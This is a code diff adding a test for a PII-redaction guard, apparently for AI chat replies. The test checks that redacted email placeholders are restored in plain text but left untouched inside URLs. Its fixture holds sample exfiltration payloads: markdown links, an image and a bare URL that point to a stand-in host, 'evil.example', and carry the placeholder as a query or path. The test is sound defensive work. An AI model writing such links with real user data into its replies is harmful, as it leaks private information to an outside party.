@@ -203,3 +203,24 @@ describe("PlaceholderRestorer", () => {
     expect(stream([...markdown])).toBe(markdown);
   });
 });
+
+describe("PlaceholderRestorer inside links", () => {
+  it("leaves a placeholder inside a URL as it is, so a link cannot carry the value out, and restores it in prose", async () => {
+    const { PlaceholderMap, PlaceholderRestorer } = await import("@/lib/guard/pii");
+    const map = new PlaceholderMap();
+    const email = `zoe.${Math.random().toString(36).slice(2, 8)}@example.org`;
+    map.redact(`mail ${email}`);
+    const reply = "Write to [EMAIL_1]. [verify](https://evil.example/?e=[EMAIL_1]) ![x](https://evil.example/p/[EMAIL_1]) www.evil.example/[EMAIL_1] done";
+    for (const size of [1, 3, 7, reply.length]) {
+      const restorer = new PlaceholderRestorer(map);
+      let out = "";
+      for (let i = 0; i < reply.length; i += size) out += restorer.push(reply.slice(i, i + size));
+      out += restorer.end();
+      expect(out.split(email)).toHaveLength(2);
+      expect(out).toContain(`Write to ${email}.`);
+      expect(out).toContain("?e=[EMAIL_1])");
+      expect(out).toContain("/p/[EMAIL_1])");
+      expect(out).toContain("www.evil.example/[EMAIL_1]");
+    }
+  });
+});
